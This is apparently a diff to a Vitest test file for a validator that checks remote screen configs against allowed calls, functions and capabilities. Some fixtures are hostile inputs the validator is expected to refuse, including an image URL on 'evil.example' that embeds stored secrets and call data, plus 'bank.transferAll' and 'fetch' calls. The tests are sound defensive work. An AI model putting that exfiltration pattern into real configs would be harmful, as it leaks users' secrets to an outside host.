@@ -1,7 +1,9 @@
-// @vitest-environment jsdom
 import { describe, expect, it } from 'vitest'
-import { createTestEngine } from '../testing'
+import { createTestEngine } from '../testing-engine'
 import { checkRemoteScreen } from './check-remote-screen'
+
+// The site's origin, passed in: this test runs under Node, where there is no location.
+const ORIGIN = 'https://app.example.cn'
 
 const good = {
   $schema: '../../schemas/screen.schema.json',
@@ -17,7 +19,7 @@ const good = {
 
 describe('checkRemoteScreen', () => {
   it('passes a config in the screen language that uses registered names only', async () => {
-    const loaded = await checkRemoteScreen(good, 'remote:autumn-walk', createTestEngine())
+    const loaded = await checkRemoteScreen(good, 'remote:autumn-walk', createTestEngine(), ORIGIN)
     expect(loaded.problems).toEqual([])
     expect(loaded.config).toBe(good)
   })
@@ -32,7 +34,7 @@ describe('checkRemoteScreen', () => {
       ],
       data: { account: { sql: 'select 1' } },
     }
-    const loaded = await checkRemoteScreen(bad, 'remote:bad', createTestEngine())
+    const loaded = await checkRemoteScreen(bad, 'remote:bad', createTestEngine(), ORIGIN)
     expect(loaded.config).toBeNull()
     const byPath = Object.fromEntries(loaded.problems.map((p) => [p.path, p.message]))
     expect(byPath['/body/0/type']).toMatch(/^unknown node type "txt" \(known: .*text/)
@@ -44,7 +46,7 @@ describe('checkRemoteScreen', () => {
 
   it('refuses calls and functions this app does not have', async () => {
     const config = { ...good, data: { x: { call: 'bank.transferAll' } }, body: [{ type: 'text', text: '{{ fetch(1) }}{{ date(1, ) }}' }] }
-    const loaded = await checkRemoteScreen(config, 'remote:x', createTestEngine())
+    const loaded = await checkRemoteScreen(config, 'remote:x', createTestEngine(), ORIGIN)
     expect(loaded.problems.map((p) => `${p.path}: ${p.message}`)).toEqual([
       '/data/x/call: unknown call "bank.transferAll"',
       expect.stringMatching(/^\/body\/0\/text: unknown function "fetch"/),
@@ -54,14 +56,14 @@ describe('checkRemoteScreen', () => {
 
   it('names a t() key the shared wording lacks, and passes one it has', async () => {
     const config = { ...good, data: {}, body: [{ type: 'text', text: "{{ t('retry') }} {{ t('retyr') }}" }] }
-    const loaded = await checkRemoteScreen(config, 'remote:w', createTestEngine())
+    const loaded = await checkRemoteScreen(config, 'remote:w', createTestEngine(), ORIGIN)
     expect(loaded.problems.map((p) => `${p.path}: ${p.message}`)).toEqual([
       expect.stringMatching(/^\/body\/0\/text: unknown wording key "retyr"/),
     ])
   })
 
   it('refuses what is not a screen at all', async () => {
-    const loaded = await checkRemoteScreen([1, 2], 'remote:y', createTestEngine())
+    const loaded = await checkRemoteScreen([1, 2], 'remote:y', createTestEngine(), ORIGIN)
     expect(loaded.config).toBeNull()
     expect(loaded.problems[0].path).toBe('')
   })
@@ -74,7 +76,7 @@ describe('checkRemoteScreen under the run-time capabilities', () => {
       data: { calls: { inspect: 'calls' }, secret: { storage: 'SIGN_SECRET' } },
       body: [{ type: 'image', src: 'https://evil.example/p.png?d={{ json(data) }}', alt: '' }],
     }
-    const loaded = await checkRemoteScreen(config, 'remote:x', createTestEngine())
+    const loaded = await checkRemoteScreen(config, 'remote:x', createTestEngine(), ORIGIN)
     expect(loaded.config).toBeNull()
     expect(loaded.problems.map((p) => `${p.path}: ${p.message}`)).toEqual([
       expect.stringMatching(/^\/data\/calls: .*\(capability: data sources\): the "inspect" data source/),
@@ -93,7 +95,7 @@ describe('checkRemoteScreen under the run-time capabilities', () => {
       ],
       body: [{ type: 'button', text: '关注', press: { action: 'call', call: 'homepage.follow' } }],
     }
-    const loaded = await checkRemoteScreen(config, 'remote:x', createTestEngine())
+    const loaded = await checkRemoteScreen(config, 'remote:x', createTestEngine(), ORIGIN)
     expect(loaded.problems.map((p) => `${p.path}: ${p.message}`)).toEqual([
       expect.stringMatching(/^\/enter\/1\/call: .*\(capability: writing calls\): "homepage.follow" changes data/),
       expect.stringMatching(/^\/enter\/2\/call: .*"content.comment" changes data/),
